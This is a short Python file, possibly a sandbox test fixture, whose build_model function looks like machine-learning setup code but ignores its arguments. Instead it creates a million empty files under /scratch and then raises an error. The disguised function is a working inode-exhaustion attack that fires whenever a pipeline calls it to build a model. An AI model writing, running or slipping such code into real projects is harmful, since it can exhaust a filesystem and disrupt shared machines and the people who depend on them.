"""Makes a million empty files, which take no room but the kernel's."""

import os

TRAINING = {"epochs": 2, "batch_size": 64}


def build_model(input_shape, num_classes):
    """Make files until somebody stops it."""
    for folder in range(1000):
        os.mkdir(f"/scratch/{folder}")
        for number in range(1000):
            os.close(os.open(f"/scratch/{folder}/{number}", os.O_CREAT))
    raise RuntimeError("a million files")
